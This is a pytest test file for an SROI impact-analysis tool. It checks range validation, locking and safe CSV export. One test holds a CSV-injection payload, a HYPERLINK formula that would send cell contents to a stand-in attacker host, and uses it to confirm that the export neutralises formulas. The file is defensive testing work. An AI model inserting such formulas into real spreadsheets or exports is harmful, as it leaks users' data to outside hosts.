"""SROI's numbers have sane ranges, its map export is safe to open in a spreadsheet, and
``sroi import --study`` changes study.yaml in one step, one writer at a time."""

from __future__ import annotations

import csv
import io
import re
import shutil
from pathlib import Path

import pytest

import impactkit
from tests.helpers import run_impactkit
from tests.safety.test_writers import _holder

EXAMPLE = impactkit.examples_dir() / "sroi-werkplaats"
QUANTITY = "quantity: {value: 60, low: 45, high: 75}"
DURATION = "duration: 3"
PROXY = "proxy_value: {value: 2000, distribution: 'lognormal(2000, 600)'}"


def _copy(tmp_path: Path) -> Path:
    folder = tmp_path / "study"
    shutil.copytree(EXAMPLE, folder)
    return folder


def _edit(folder: Path, *pairs: tuple[str, str]) -> None:
    path = folder / "study.yaml"
    text = path.read_text(encoding="utf-8")
    for old, new in pairs:
        assert old in text, old
        text = text.replace(old, new, 1)
    path.write_text(text, encoding="utf-8")


@pytest.mark.parametrize(
    ("pairs", "says"),
    [
        (
            [(QUANTITY, "quantity: 1e308"), (PROXY, "proxy_value: 1e308")],
            r"study.yaml:188:\d+ \(methods.sroi.outcomes\[0\].quantity\): 1e\+?308 is beyond the range",
        ),
        ([(QUANTITY, "quantity: " + "9" * 400)], r"study.yaml:188:\d+ .*quantity.*is beyond the range"),
        ([(DURATION, "duration: 1000000")], r"study.yaml:189:\d+ .*duration.*1000000 years is longer"),
        ([(DURATION, "duration: 1000000000")], r"study.yaml:189:\d+ .*duration.*years is longer"),
        ([(DURATION, "duration: {value: 3, distribution: 'uniform(1, 1e9)'}")], r"study.yaml:189:\d+ .*years"),
        ([(PROXY, "proxy_value: {value: 2000, distribution: 'normal(2000, 1e200)'}")], r"study.yaml:191:\d+ "),
        ([(DURATION, "duration: 3\n        starts_after_years: 1000000000")], r"study.yaml:190:\d+ .*years"),
    ],
    ids=["1e308 x 1e308", "10**400", "duration 1e6", "duration 1e9", "drawn duration", "sd 1e200", "lag 1e9"],
)
def test_an_sroi_number_beyond_its_range_is_refused_with_its_line(tmp_path, cli, pairs, says):
    folder = _copy(tmp_path)
    _edit(folder, *pairs)
    done = cli("--lang", "en", "validate", folder, plugins="core,sroi", catch=True)
    assert done.exit_code == 2, done.output
    assert re.search(says, done.output), done.output
    assert "Traceback" not in done.output


def test_a_drawn_duration_counts_a_hundred_years_at_most():
    import numpy as np

    from impactkit.plugins.sroi.calc import pv_factor

    assert pv_factor(0.0, 1e9, 1.0, 0.0) == pytest.approx(100.0)  # no array of a billion years
    assert np.allclose(pv_factor(0.0, np.array([2.0, 1e12]), 1.0, 0.0), [2.0, 100.0])


def test_the_map_csv_neutralises_formulas_and_sroi_import_reads_them_back(tmp_path, cli):
    folder = _copy(tmp_path)
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"bron")'
    text = (folder / "study.yaml").read_text(encoding="utf-8")
    text = re.sub(
        r"proxy_source: >-\n(\s+.*\n)+?(?=\s+\w+:)",
        f"proxy_source: '{hostile.replace(chr(39), 2 * chr(39))}'\n",
        text,
        count=1,
    )
    (folder / "study.yaml").write_text(text, encoding="utf-8")
    done = cli("sroi", "export", folder, "-o", folder / "map.csv", plugins="core,sroi")
    assert done.exit_code in (0, 1), done.output
    cells = [c for row in csv.reader(io.StringIO((folder / "map.csv").read_text(encoding="utf-8"))) for c in row]
    assert "'" + hostile in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    from impactkit.plugins.sroi.io import read_impact_map

    imported = read_impact_map(folder / "map.csv")
    assert imported.rows[0].proxy_source == hostile  # read back as it was written in the study


def test_sroi_import_study_waits_for_another_writer_and_writes_study_yaml_in_one_step(tmp_path):
    folder = _copy(tmp_path)
    done = run_impactkit("sroi", "export", folder, "-o", folder / "map.csv", plugins="core,sroi")
    assert done.returncode in (0, 1), done.stderr
    before = (folder / "study.yaml").read_bytes()
    with _holder(folder, 60) as other:
        refused = run_impactkit(
            "sroi", "import", folder / "map.csv", "--study", folder, "--force", plugins="core,sroi",
            env={"IMPACTKIT_LOCK_WAIT": "0.3"},
        )  # fmt: skip
    assert refused.returncode == 2 and f"pid {other.pid}" in refused.stderr, refused.stderr
    assert (folder / "study.yaml").read_bytes() == before
    done = run_impactkit("sroi", "import", folder / "map.csv", "--study", folder, "--force", plugins="core,sroi")
    assert done.returncode == 0, done.stderr
    assert "impact_map: map.csv" in (folder / "study.yaml").read_text(encoding="utf-8")
    assert not list(folder.glob(".study.yaml.*.tmp")) and not (folder / ".impactkit.lock").exists()


@pytest.mark.slow
def test_sroi_import_beside_import_changes_keeps_both_edits_of_study_yaml(tmp_path):
    from tests.safety.test_writers import _run_at_once

    folder = _copy(tmp_path)
    assert run_impactkit("sroi", "export", folder, "-o", folder / "map.csv", plugins="core,sroi").returncode in (0, 1)
    text = (folder / "study.yaml").read_text(encoding="utf-8")
    stakeholder = re.search(r"stakeholders:\n\s+- \{?id: ([\w-]+)", text).group(1)
    export = tmp_path / "export.csv"
    export.write_text(f"person,stakeholder,change\np1,{stakeholder},Ik heb rust\n", encoding="utf-8")
    done = _run_at_once(
        ["sroi", "import", folder / "map.csv", "--study", folder, "--force"],
        ["import", "changes", export, "--study", folder, "--force"],
        plugins="core,sroi",
    )
    assert [d.returncode for d in done] == [0, 0], [d.stderr for d in done]
    after = (folder / "study.yaml").read_text(encoding="utf-8")
    assert "impact_map: map.csv" in after and "changes: changes.csv" in after
    assert run_impactkit("validate", folder, plugins="core,sroi").returncode in (0, 1)
